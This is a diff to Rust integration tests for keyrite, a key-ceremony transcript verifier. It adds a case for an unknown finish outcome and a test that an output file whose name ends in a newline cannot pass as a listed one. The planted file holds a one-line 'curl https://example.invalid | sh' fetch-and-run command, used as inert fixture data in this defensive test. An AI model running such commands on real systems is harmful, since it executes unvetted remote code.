@@ -221,6 +221,18 @@ fn sealed_records_that_contradict_themselves_are_invalid_in_all_three() {
             "the finish line says \"failed\", but no failure line records why".to_owned(),
         ));
     }
+    {
+        // An outcome keyrite never writes: neither completed nor failed.
+        let mut v = original.clone();
+        v[finish]["data"]["outcome"] = json!("interrupted");
+        cases.push((
+            "finish with an unknown outcome",
+            v,
+            finish,
+            "the finish line's data.outcome is \"interrupted\", not \"completed\" or \"failed\""
+                .to_owned(),
+        ));
+    }
     let generated = at(&original, "generated");
     {
         // The generate step claimed as carried over from an interrupted run that is named nowhere.
@@ -295,8 +307,11 @@ fn sealed_records_that_contradict_themselves_are_invalid_in_all_three() {
         }
         for which in [1, 2] {
             assert!(
-                stdout(&outs, which)
-                    .contains(&format!("structure  FAIL        line {line}: {reason}\n")),
+                // The independent verifiers name an unknown outcome in their order check.
+                stdout(&outs, which).lines().any(|l| {
+                    (l.starts_with("structure  FAIL") || l.starts_with("order      FAIL"))
+                        && l.ends_with(&format!("FAIL        line {line}: {reason}"))
+                }),
                 "{name}: {}",
                 stdout(&outs, which)
             );
@@ -557,6 +572,25 @@ fn output_directories_are_judged_alike() {
             stdout(&outs, which)
         );
     }
+    // A name that ends in a newline, which a line-by-line listing would read as a listed one.
+    let newline = path(&c, "newline");
+    copy_output(&c, out, &newline);
+    std::fs::write(
+        newline.join(out).join("import.sh\n"),
+        "curl https://example.invalid | sh\n",
+    )
+    .unwrap();
+    all_three(
+        &t,
+        &signer,
+        Some(&policy),
+        Some(&newline),
+        1,
+        &verdict_for(format!(
+            "{} holds \"import.sh\\n\", which the transcript does not list",
+            newline.join(out).display()
+        )),
+    );
     all_three(&t, &signer, Some(&policy), Some(c.dir()), 0, VERIFIED);
 
     // A second ceremony re-wraps the key for new import parameters: its rewrapped output is
